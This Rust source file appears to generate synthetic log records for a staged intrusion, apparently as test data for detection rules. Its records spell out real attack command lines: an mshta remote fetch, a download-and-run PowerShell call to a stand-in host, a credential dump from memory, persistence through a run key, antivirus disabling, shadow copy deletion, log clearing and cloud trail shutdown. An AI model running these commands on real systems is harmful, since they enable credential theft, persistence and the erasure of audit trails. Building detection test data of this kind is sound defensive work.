//! The intrusion: a document, a workstation, the domain, the mailbox, the cloud, the traces.
//!
//! Names and addresses are those set aside for examples (RFC 2606, RFC 5737).

use serde_json::{Value, json};

use super::records::{Dice, Log, cloudtrail, m365, process, windows};
use super::sample::{AUDIT, CONTROLLER, FILE_SERVER, Step, TRAIL, WORKSTATION, at};

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const FAR: &str = "203.0.113.77";

/// Every step with its record.
pub fn steps(dice: &mut Dice) -> Vec<(Step, Value)> {
    let step = |file, place, what, time, rules| Step { file, place, what, time, rules };
    let mut out = Vec::new();

    let t = at(7, 42, 11);
    let line = "mshta https://cdn.documents.example/agenda.hta";
    out.push((
        step(
            WORKSTATION,
            "WS-0412",
            "a document starts a script host",
            t,
            &["c0b02b5f-be49-40e7-a768-2116564f90c4"],
        ),
        process("WS-0412", t, "a.novak", WORD, "C:\\Windows\\System32\\mshta.exe", line, dice),
    ));
    let t = at(7, 42, 19);
    let line = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=";
    out.push((
        step(
            WORKSTATION,
            "WS-0412",
            "PowerShell, hidden and encoded",
            t,
            &["1ed2d2f9-2662-4abd-9ed3-f1c6d41ba74f"],
        ),
        process("WS-0412", t, "a.novak", CMD, POWERSHELL, line, dice),
    ));
    let t = at(7, 42, 21);
    out.push((
        step(WORKSTATION, "WS-0412", "its text: download and run in memory", t, &["63b07556-242b-42ac-b0fe-ec45fd250adf"]),
        windows("WS-0412", t, Log::PowerShell, 4104, json!({
            "MessageNumber": "1", "MessageTotal": "1", "Path": "", "ScriptBlockId": "8d0f6a17-7e2a-4b0e-9a4d-5b1c3d2e1f00",
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')",
        })),
    ));
    let t = at(7, 58, 2);
    out.push((
        step(WORKSTATION, "WS-0412", "a run key to come back", t, &["c8be5c24-7042-4ffa-81f5-7abec1fd24b4"]),
        windows("WS-0412", t, Log::Sysmon, 13, json!({
            "EventType": "SetValue", "Image": POWERSHELL, "User": "CORP\\a.novak", "ProcessGuid": dice.guid(),
            "TargetObject": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1143\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            "Details": "powershell -w hidden -f C:\\Users\\Public\\u.ps1",
        })),
    ));
    let t = at(9, 31, 44);
    let line = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\l.bin full";
    out.push((
        step(
            WORKSTATION,
            "WS-0412",
            "passwords dumped from memory",
            t,
            &["8b4bb979-890a-494e-a2bf-169a625c8c08"],
        ),
        process("WS-0412", t, "a.novak", CMD, "C:\\Windows\\System32\\rundll32.exe", line, dice),
    ));
    let t = at(11, 15, 7);
    let line = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1697271693.11 2>&1";
    out.push((
        step(
            FILE_SERVER,
            "SRV-FILE01",
            "a command sent over WMI",
            t,
            &["c083586a-70a0-4b87-93d2-a70fa49f0d4f"],
        ),
        process("SRV-FILE01", t, "m.keller", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", CMD, line, dice),
    ));
    let t = at(11, 20, 33);
    let line = "powershell Set-MpPreference -DisableRealtimeMonitoring $true";
    out.push((
        step(
            FILE_SERVER,
            "SRV-FILE01",
            "the antivirus weakened",
            t,
            &["a154497a-1649-4c7a-873d-767ffbcafe30"],
        ),
        process("SRV-FILE01", t, "m.keller", CMD, POWERSHELL, line, dice),
    ));
    let t = at(13, 5, 50);
    out.push((
        step(CONTROLLER, "DC01", "the directory's secrets replicated", t, &["0dd7c407-f9f4-4bbe-baeb-37ff8e96a2de"]),
        windows("DC01", t, Log::Security, 4662, json!({
            "SubjectUserName": "m.keller", "SubjectDomainName": "CORP", "ObjectServer": "DS", "AccessMask": "0x100",
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1143",
            "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            "Properties": "%%7688\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\n",
        })),
    ));
    let t = at(15, 2, 26);
    out.push((
        step(AUDIT, "M365", "a mail rule that hides warnings", t, &["d9335cbb-4b61-4384-bd9f-c418171fe893"]),
        m365(t, "a.novak", FAR, "Exchange", "New-InboxRule", json!({"Parameters": [
            {"Name": "Name", "Value": "."}, {"Name": "SubjectOrBodyContainsWords", "Value": "phish;hacked;password"},
            {"Name": "DeleteMessage", "Value": "True"},
        ]}), dice),
    ));
    let t = at(16, 10, 5);
    let key = json!({"userName": "old-svc"});
    let mut record = cloudtrail(t, "build-bot", FAR, "iam", "CreateAccessKey", key, dice);
    record["responseElements"] =
        json!({"accessKey": {"userName": "old-svc", "status": "Active", "accessKeyId": "AKIAEXAMPLE"}});
    out.push((
        step(TRAIL, "AWS", "a key made for a forgotten user", t, &["cd1a9b53-62e8-4c68-863e-c76a49041b44"]),
        record,
    ));
    let t = at(16, 12, 40);
    out.push((
        step(TRAIL, "AWS", "the trail stopped", t, &["6f960daf-03ab-4ced-bde3-4aeacb50a6ed"]),
        cloudtrail(t, "build-bot", FAR, "cloudtrail", "StopLogging", json!({"name": "org-trail"}), dice),
    ));
    let t = at(18, 40, 12);
    let line = "vssadmin.exe Delete Shadows /All /Quiet";
    out.push((
        step(
            FILE_SERVER,
            "SRV-FILE01",
            "shadow copies deleted",
            t,
            &["e33bb45e-8778-40e9-a6a4-9048ccf18732"],
        ),
        process("SRV-FILE01", t, "m.keller", CMD, "C:\\Windows\\System32\\vssadmin.exe", line, dice),
    ));
    let t = at(18, 55, 31);
    out.push((
        step(CONTROLLER, "DC01", "the Security log cleared", t, &["424f0e77-2905-452a-9bda-8108de327484"]),
        windows(
            "DC01",
            t,
            Log::Security,
            1102,
            json!({
                "SubjectUserName": "m.keller", "SubjectDomainName": "CORP", "SubjectLogonId": "0xc61d9",
                "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1143",
            }),
        ),
    ));
    out
}
